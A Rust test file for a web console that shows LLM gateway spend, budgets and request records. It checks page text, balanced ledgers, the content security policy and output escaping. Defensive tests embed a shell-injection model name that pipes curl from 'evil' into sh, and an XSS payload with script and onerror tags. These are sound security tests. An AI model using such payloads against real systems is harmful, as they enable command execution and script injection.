//! Realistic pages, hostile ones, and the promises of the headers.
//!
//! `CONSOLE_PAGES=DIR cargo test -p console` also writes the pages and the
//! style sheet there, to be looked at in a browser.

mod fixture;

use std::collections::BTreeSet;

use expect_test::expect;

use super::*;

/// What a reader of the page without any style sees: tags become spaces.
fn text(html: &str) -> String {
    let mut out = String::new();
    let mut inside = false;
    for c in html.chars() {
        match c {
            '<' => inside = true,
            '>' => {
                inside = false;
                out.push(' ');
            }
            c if !inside => out.push(c),
            _ => {}
        }
    }
    out.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn all_pages(view: &View, record: &api::Record) -> Vec<(&'static str, String)> {
    vec![
        ("overview", page(view)),
        ("record", record_page(record)),
        ("login", login_page(Some(&record.team), true)),
        ("error", error_page(&record.team)),
    ]
}

#[test]
fn an_incident_is_told_before_anything_else() {
    let html = page(&fixture::incident());
    let shown = text(&html);
    let from = shown.find("Model ").unwrap_or(0);
    let to = shown.find("Spent today").unwrap_or(shown.len());
    expect!["Model chat-large cannot answer: openai/gpt-4.1: failed repeatedly; not tried before 2026-11-23T09:12:40.000Z. Budget search-monthly is spent: its requests are refused with 402 (LG0201). 6 of the last 20 requests failed, 4 of them with UP0003. Model chat-fast runs on fewer targets: groq/llama-3.3-70b-versatile: failed repeatedly. Budget support-daily is at 91 % of its limit, open holds included. 5 of the last 20 requests were refused, with LG0201. 14 attempts of this month have no known price (lab/experimental-8b): their cost is in suspense, not in the sums below."].assert_eq(shown[from..to].trim());
}

#[test]
fn a_calm_morning_says_so_and_shows_money_by_the_column() {
    let html = page(&fixture::calm());
    let shown = text(&html);
    assert!(shown.contains("Nothing needs attention."), "{shown}");
    let from = shown.find("Spend by team").unwrap_or(0);
    let to = shown.find("Spend by model").unwrap_or(shown.len());
    expect!["Spend by team 2026-11-01 to 2026-11-23 search $312.48 48,210 attempts · 91,204,417 tokens · 12 estimated support $96.02 12,904 attempts · 20,117,600 tokens batch-labelling $1.27 3,310 attempts · 4,009,121 tokens default &lt;$0.01 41 attempts · 3,020 tokens Total $409.77"].assert_eq(shown[from..to].trim());
}

#[test]
fn an_empty_server_shows_what_to_do_first() {
    let shown = text(&page(&fixture::empty()));
    assert!(shown.contains("curl -N"), "{shown}");
    assert!(shown.contains("\"bedplate-guide\""), "the model that is ready: {shown}");
    assert!(shown.contains("No budget limits anybody."));
    assert!(shown.contains("Nothing was spent in this period."));
}

#[test]
fn a_name_that_a_shell_would_read_is_not_put_into_a_command() {
    let mut view = fixture::empty();
    view.models[0].name = "x'; curl evil | sh; '".into();
    let shown = text(&page(&view));
    let command = &shown[shown.find("curl -N").unwrap_or(0)..];
    assert!(command.contains("\"model\": \"MODEL\""), "{command}");
}

#[test]
fn a_record_shows_its_journey_its_lines_and_a_sum_of_zero() {
    let shown = text(&record_page(&fixture::fallback()));
    let part = |from: &str, to: &str| {
        let start = shown.find(from).unwrap_or(0);
        let end = shown[start..].find(to).map_or(shown.len(), |n| start + n);
        shown[start..end].trim().to_owned()
    };
    expect!["Attempt 1 openai/gpt-4.1-mini for chat failed took 812.4 ms · status 503 · UP0001 · nothing was charged provider openai failed with status 503: overloaded"].assert_eq(&part("Attempt 1", "Attempt 2"));
    expect!["Attempt 2 anthropic/claude-haiku-4-5 for chat ok took 1.91 s · first byte after 402.0 ms · then 164 tokens/s · status 200 · price in force since 2025-10-15T00:00:00.000Z, from catalogue 2026-11-20 · upstream id msg_01X Priced lines Line Quantity USD each USD input 1,204 0.000001 0 0.001204 cache_read 8,000 0.0000001 0.0008 00 output 248 0.000005 0 0.00124 0 total 0.003244"].assert_eq(&part("Attempt 2", "Not tried"));
    expect!["Ledger Postings; debits are positive Account Attempt USD expense:search/chat-fast 019ab1c2-0001-7a00-8000-0000000000a2 0.003244 payable:anthropic 019ab1c2-0001-7a00-8000-0000000000a2 -0.003244 sum: the books balance 0 .000000"].assert_eq(&part("Ledger", "The same"));
}

#[test]
fn books_that_do_not_balance_are_not_hidden() {
    let mut record = fixture::fallback();
    record.postings.pop();
    assert!(text(&record_page(&record)).contains("NOT ZERO"));
}

#[test]
fn hostile_names_stay_text_everywhere() {
    let evil = "\"><script>alert(1)</script><img src=x onerror='alert(1)'>\u{202e}&";
    let (view, record) = (fixture::hostile(evil), fixture::hostile_record(evil));
    for (name, html) in all_pages(&view, &record) {
        assert!(!html.contains("<script") && !html.contains("<img src=x"), "{name}: {html}");
        assert!(!html.contains("onerror='") && !html.contains('\u{202e}'), "{name}");
        assert!(html.contains("&lt;script&gt;"), "{name} shows the name as text");
    }
}

/// Every element that is opened is closed in order, so that no page depends on
/// how a browser repairs it.
fn well_formed(name: &str, html: &str) {
    const VOID: [&str; 5] = ["meta", "link", "img", "input", "!doctype"];
    let mut open: Vec<&str> = Vec::new();
    for tag in html.split('<').skip(1).filter_map(|t| t.split('>').next()) {
        let word = tag.split([' ', '\n']).next().unwrap_or_default();
        match word.strip_prefix('/') {
            Some(end) => assert_eq!(open.pop(), Some(end), "{name}: </{end}>"),
            None if VOID.contains(&word) || tag.ends_with('/') => {}
            None => open.push(word),
        }
    }
    assert!(open.is_empty(), "{name}: {open:?}");
}

#[test]
fn pages_are_whole_documents_without_script_or_inline_style() {
    for view in [fixture::calm(), fixture::incident(), fixture::empty()] {
        for (name, html) in all_pages(&view, &fixture::fallback()) {
            well_formed(name, &html);
            for banned in ["<script", " style=", "<style", "javascript:", " onclick"] {
                assert!(!html.contains(banned), "{name} has {banned}");
            }
            assert_eq!(html.matches("<h1>").count(), 1, "{name}");
            assert_eq!(html.contains("http-equiv=\"refresh\""), name == "overview", "{name}");
        }
    }
}

#[test]
fn every_class_of_the_pages_is_styled() {
    let mut used = BTreeSet::new();
    for view in [fixture::calm(), fixture::incident(), fixture::empty()] {
        for (_, html) in all_pages(&view, &fixture::fallback()) {
            let classes = html.split("class=\"").skip(1).filter_map(|c| c.split('"').next());
            used.extend(classes.flat_map(str::split_whitespace).map(str::to_owned));
        }
    }
    for class in &used {
        assert!(CSS.contains(&format!(".{class}")), "no rule for .{class}");
    }
    assert!(CSS.contains("prefers-color-scheme: dark") && CSS.contains("tabular-nums"));
    assert!(!CSS.contains("url(") && !CSS.contains("@import"), "nothing is fetched");
}

#[test]
fn the_policy_allows_no_script_and_no_frame() {
    let policy = PAGE_HEADERS.iter().find(|(name, _)| *name == "content-security-policy").map(|(_, v)| *v);
    let policy = policy.unwrap_or_default();
    assert!(policy.starts_with("default-src 'none'"), "{policy}");
    assert!(!policy.contains("script-src") && !policy.contains("unsafe"), "{policy}");
    assert!(policy.contains("frame-ancestors 'none'") && policy.contains("form-action 'self'"), "{policy}");
}

#[test]
fn a_page_is_bounded_whatever_the_lists_are() {
    let mut view = fixture::incident();
    view.records = view.records.iter().cycle().take(100_000).cloned().collect();
    view.models = view.models.iter().cycle().take(5_000).cloned().collect();
    view.budgets = view.budgets.iter().cycle().take(5_000).cloned().collect();
    let rows = view.costs_by_team.rows.iter().cycle().take(5_000).cloned().collect();
    view.costs_by_team.rows = rows;
    let bytes = page(&view).len();
    assert!(bytes < 200_000, "{bytes} bytes");
}

#[test]
fn pages_can_be_written_to_a_folder_and_looked_at() {
    #[expect(clippy::disallowed_methods, reason = "asked for by a person, to look at the pages")]
    let Some(folder) = std::env::var_os("CONSOLE_PAGES") else { return };
    let folder = std::path::Path::new(&folder);
    let local = |html: String| html.replace(path::CSS, "console.css");
    let write = |name: &str, body: String| {
        std::fs::write(folder.join(name), body).expect("the folder that was asked for can be written");
    };
    write("console.css", CSS.into());
    write("calm.html", local(page(&fixture::calm())));
    write("incident.html", local(page(&fixture::incident())));
    write("empty.html", local(page(&fixture::empty())));
    write("record.html", local(record_page(&fixture::fallback())));
    write("login.html", local(login_page(Some("that key is not known"), true)));
    write("error.html", local(error_page("there is no record of request 019ab1c2")));
}
